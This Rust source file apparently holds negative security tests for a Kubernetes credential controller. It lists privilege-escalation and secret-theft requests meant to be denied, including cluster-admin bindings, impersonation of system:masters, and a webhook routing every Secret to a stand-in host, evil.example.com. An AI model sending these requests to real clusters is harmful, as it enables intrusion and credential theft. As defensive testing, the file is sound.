//! Attacks that read, impersonate, escalate or run workloads.

use serde_json::{Value, json};

use super::{ACCOUNTS, Attack, Barrier, SECRETS, attack, merge, pod, rbac};
use crate::caller::Body;
use crate::harness::{CONTROLLER, NAMESPACE, SECRET};

/// Returns attacks that read other Secrets, by every verb that lists or names them.
pub fn reads() -> Vec<Attack> {
    let get = |what, path: &str| rbac(what, "GET", path, Body::None);
    vec![
        get("list every Secret", "/api/v1/secrets"),
        get("list every Secret of kube-system", "/api/v1/namespaces/kube-system/secrets"),
        get("list every Secret of its own namespace", "/api/v1/namespaces/acr-credential-system/secrets"),
        get("watch every Secret", "/api/v1/secrets?watch=true&timeoutSeconds=1"),
        get("list Secrets by label", "/api/v1/secrets?labelSelector=a%3Db"),
        get(
            "list Secrets by type",
            "/api/v1/secrets?fieldSelector=type%3Dkubernetes.io%2Fservice-account-token",
        ),
        get(
            "list all Secrets but ours",
            &format!("/api/v1/secrets?fieldSelector=metadata.name%21%3D{SECRET}"),
        ),
        get("list Secrets of another name", "/api/v1/secrets?fieldSelector=metadata.name%3Dother"),
        get("read a tenant's Secret", "/api/v1/namespaces/victim/secrets/other"),
        get("read a Secret of kube-system", "/api/v1/namespaces/kube-system/secrets/bound"),
        get("read a key pair that is not listed", "/api/v1/namespaces/acr-credential-system/secrets/other"),
        get("read another ConfigMap", "/api/v1/namespaces/kube-system/configmaps/kube-root-ca.crt"),
        get("list the Pods and their environment", "/api/v1/pods"),
        get("reach a node by proxy", "/api/v1/nodes/n/proxy/pods"),
        get("run a command in a Pod", "/api/v1/namespaces/victim/pods/spy/exec?command=sh"),
    ]
}

/// Returns attacks that impersonate other identities.
pub fn identities() -> Vec<Attack> {
    let token = |what, account: &str| {
        let body = json!({ "apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {} });
        rbac(what, "POST", &format!("/api/v1/namespaces/{account}/token"), Body::Json(body))
    };
    let impersonate = |what, headers: &[(&'static str, &'static str)]| {
        let mut attack = rbac(what, "GET", "/api/v1/secrets", Body::None);
        attack.call.headers = headers.to_vec();
        attack
    };
    let role = |kind: &str, name: &str, rest: Value| {
        let mut object = json!({ "apiVersion": "rbac.authorization.k8s.io/v1", "kind": kind,
            "metadata": { "name": name } });
        merge(&mut object, rest);
        Body::Json(object)
    };
    let me = json!([{ "kind": "ServiceAccount", "name": CONTROLLER, "namespace": NAMESPACE }]);
    let admin =
        json!({ "apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin" });
    let all = json!({ "rules": [{ "apiGroups": ["*"], "resources": ["*"], "verbs": ["*"] }] });
    let base = "/apis/rbac.authorization.k8s.io/v1";
    let request = json!({ "apiVersion": "certificates.k8s.io/v1", "kind": "CertificateSigningRequest",
        "metadata": { "name": "evil" }, "spec": { "signerName": "kubernetes.io/kube-apiserver-client",
            "request": CERTIFICATE_REQUEST, "usages": ["client auth"] } });
    vec![
        token("ask for a token of a tenant's account", "victim/serviceaccounts/default"),
        token("ask for a token of a system account", "kube-system/serviceaccounts/default"),
        token(
            "ask for a longer token of its own",
            "acr-credential-system/serviceaccounts/acr-credential-controller",
        ),
        impersonate(
            "impersonate an administrator",
            &[("Impersonate-User", "admin"), ("Impersonate-Group", "system:masters")],
        ),
        impersonate(
            "impersonate a controller",
            &[
                ("Impersonate-User", "system:serviceaccount:kube-system:generic-garbage-collector"),
                ("Impersonate-Group", "system:masters"),
            ],
        ),
        rbac(
            "bind itself to cluster-admin",
            "POST",
            &format!("{base}/clusterrolebindings"),
            role("ClusterRoleBinding", "evil", json!({ "subjects": me, "roleRef": admin })),
        ),
        rbac(
            "bind itself to cluster-admin in a namespace",
            "POST",
            &format!("{base}/namespaces/victim/rolebindings"),
            role("RoleBinding", "evil", json!({ "subjects": me, "roleRef": admin })),
        ),
        rbac(
            "widen its own role",
            "PATCH",
            &format!("{base}/clusterroles/acr-credential-controller"),
            Body::Merge(all.clone()),
        ),
        rbac("make a role", "POST", &format!("{base}/clusterroles"), role("ClusterRole", "evil", all)),
        rbac(
            "request a client certificate",
            "POST",
            "/apis/certificates.k8s.io/v1/certificatesigningrequests",
            Body::Json(request),
        ),
        rbac(
            "run a Pod that mounts a tenant's Secret",
            "POST",
            "/api/v1/namespaces/victim/pods",
            Body::Json(pod(json!([{ "name": "v", "secret": { "secretName": "other" } }]))),
        ),
        rbac(
            "run a Pod in its own namespace",
            "POST",
            "/api/v1/namespaces/acr-credential-system/pods",
            Body::Json(pod(json!([]))),
        ),
    ]
}

/// A request for the user `evil`, created once with openssl.
const CERTIFICATE_REQUEST: &str = "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUlJQ1pqQ0NBVTRDQVFBd0lURVFNQTRHQTFVRUNnd0haWGhoYlhCc1pURU5NQXNHQTFVRUF3d0VaWFpwYkRDQwpBU0l3RFFZSktvWklodmNOQVFFQkJRQURnZ0VQQURDQ0FRb0NnZ0VCQU04ZzRqdXptRVZNbVlac3dHcGxGQThZCjBTak9HZ3hLb0Z5SkdobkR3elhFZ0hldUlsWjc3SWxWNmgrR3pGSUp1ck9VYmNtZU1JemxNL0NyZXgvZkJreTMKVisyNS9QblRQbWF1b0hEMEI1bkppOGEvV3AyYkV0L1R1UUwrYktJUVBQSDdJRmZUTlYySjVpeXYrYTl1ZEFLegpiVVZubmZEK0hvdXRnRlR5T1dUOVZGSGdnMWhlaDRwN29vdXJBUUZhQXRyaWZVUkdRdDZiaWNvUUNTNTAyZ1l0ClFUUUR1ay9NaGd2cU1ubWgrL3FuM3NtY3pFQ0IyYlUxVWVJclo5V0V5dUx2Rlc2K0NtcU03TmYzanJRcFdodHoKTjFyS2U3ZlJLZGxBWGJzalVCVjA5UmhBUmMzSEc3SVNjYzFXZ2xQdExCN3o5TG02dHM0NUZMcjM3VmxMNStrQwpBd0VBQWFBQU1BMEdDU3FHU0liM0RRRUJDd1VBQTRJQkFRQlpGY3hFSDU1dVlLMEYxbU92bm1VeFg3L282STZJCndvU2dHNmNkKzlXalZKSDVSejFvaWNWR2VrRGovQkg4OXFuM1ZzajR1bWZsT3gvQW9LRTNIV3d3MGxJZWp1UnYKNmNjb3BVbkhyZkhuYlV2SXJOZWFJWVdVY0RTcWNQc09KM2tLakxPYWI1M2JybXBSL0tQTEdZSUpRT1NmbEtuSgp6UitYQ2RKNFhQR1FzcTFueXNCZTgxclplYWJNRlVxQ0ZtNmhZb3AvN3UwZ0IvZjdMSjMyT2R4dCtCb2thSTBoCjFDQ3lIbGxhNTZpek5nL1FoNWFkaFBHbG1rSWpnRUZ2NU53OHNlaWZUS1RtS2pJWElhV1hBR2Z5cVNlc252MlcKWFVuNHBOMWJ5RWZPdmhRcHByc21zTmE3VzBPSVRWa1kvbVBtTUdZMldIenkxT3BMeE9lcGN0bzAKLS0tLS1FTkQgQ0VSVElGSUNBVEUgUkVRVUVTVC0tLS0tCg==";

/// Returns attacks that remove the barriers, or insert the intruder where every object passes.
pub fn control() -> Vec<Attack> {
    let base = "/apis/admissionregistration.k8s.io/v1";
    let hook = json!({ "name": "a.example.com", "admissionReviewVersions": ["v1"], "sideEffects": "None",
        "clientConfig": { "url": "https://evil.example.com/" },
        "rules": [{ "apiGroups": [""], "apiVersions": ["v1"], "resources": ["secrets"], "operations": ["CREATE"] }] });
    let validating = json!({ "apiVersion": "admissionregistration.k8s.io/v1",
        "kind": "ValidatingWebhookConfiguration", "metadata": { "name": "evil" }, "webhooks": [hook] });
    let conversion = json!({ "spec": { "conversion": { "strategy": "Webhook", "webhook": {
        "conversionReviewVersions": ["v1"], "clientConfig": { "url": "https://evil.example.com/" } } } } });
    let service = json!({ "apiVersion": "apiregistration.k8s.io/v1", "kind": "APIService",
        "metadata": { "name": "v1.evil.example.com" }, "spec": { "group": "evil.example.com", "version": "v1",
            "groupPriorityMinimum": 1, "versionPriority": 1, "insecureSkipTLSVerify": true,
            "service": { "namespace": "victim", "name": "evil" } } });
    let lenient = json!({ "spec": { "failurePolicy": "Ignore", "matchConditions": [] } });
    let label = json!({ "metadata": { "labels": { "pod-security.kubernetes.io/enforce": "privileged" } } });
    let aim = json!({ "data": { "watch-namespace": "all" } });
    let take_over = json!({ "spec": { "holderIdentity": "evil" } });
    vec![
        rbac(
            "delete a policy",
            "DELETE",
            &format!("{base}/validatingadmissionpolicies/{SECRETS}"),
            Body::None,
        ),
        rbac(
            "loosen a policy",
            "PATCH",
            &format!("{base}/validatingadmissionpolicies/{SECRETS}"),
            Body::Merge(lenient),
        ),
        rbac(
            "unbind a policy",
            "DELETE",
            &format!("{base}/validatingadmissionpolicybindings/{SECRETS}"),
            Body::None,
        ),
        rbac(
            "have every Secret sent to itself",
            "POST",
            &format!("{base}/validatingwebhookconfigurations"),
            Body::Json(validating),
        ),
        rbac(
            "convert bindings by a webhook",
            "PATCH",
            "/apis/apiextensions.k8s.io/v1/customresourcedefinitions/acrcredentialbindings.acrcredential.dev",
            Body::Merge(conversion),
        ),
        rbac(
            "delete the definition of bindings",
            "DELETE",
            "/apis/apiextensions.k8s.io/v1/customresourcedefinitions/acrcredentialbindings.acrcredential.dev",
            Body::None,
        ),
        rbac(
            "serve an API of its own",
            "POST",
            "/apis/apiregistration.k8s.io/v1/apiservices",
            Body::Json(service),
        ),
        rbac("lower a namespace's security", "PATCH", "/api/v1/namespaces/victim", Body::Merge(label)),
        rbac("delete a namespace", "DELETE", "/api/v1/namespaces/victim", Body::None),
        rbac(
            "edit the ConfigMap that says what is minted",
            "PATCH",
            "/api/v1/namespaces/kube-system/configmaps/acr-configuration",
            Body::Merge(aim),
        ),
        rbac(
            "take another controller's Lease",
            "PATCH",
            "/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/other",
            Body::Merge(take_over),
        ),
    ]
}

/// Returns attacks with tokens of the one account for which RBAC grants them.
pub fn tokens() -> Vec<Attack> {
    const PATH: &str = "/api/v1/namespaces/kube-system/serviceaccounts/aliyun-acr-credential-helper/token";
    let ask = |what, spec: Value| {
        let body = json!({ "apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": spec });
        attack(
            what,
            Barrier::Policy(ACCOUNTS, "for the audience sts.aliyuncs.com only"),
            "POST",
            PATH,
            Body::Json(body),
        )
    };
    let cloud = "sts.aliyuncs.com";
    vec![
        ask("ask for a token for the API server", json!({ "expirationSeconds": 3600 })),
        ask(
            "ask for a token for another cloud",
            json!({ "audiences": ["sts.amazonaws.com"], "expirationSeconds": 3600 }),
        ),
        ask(
            "ask for a token for two audiences",
            json!({ "audiences": [cloud, "https://kubernetes.default.svc.cluster.local"], "expirationSeconds": 3600 }),
        ),
        ask("ask for a token of a day", json!({ "audiences": [cloud], "expirationSeconds": 86400 })),
        ask(
            "ask for a token bound to a Secret",
            json!({ "audiences": [cloud], "expirationSeconds": 3600,
                "boundObjectRef": { "apiVersion": "v1", "kind": "Secret", "name": "bound" } }),
        ),
    ]
}
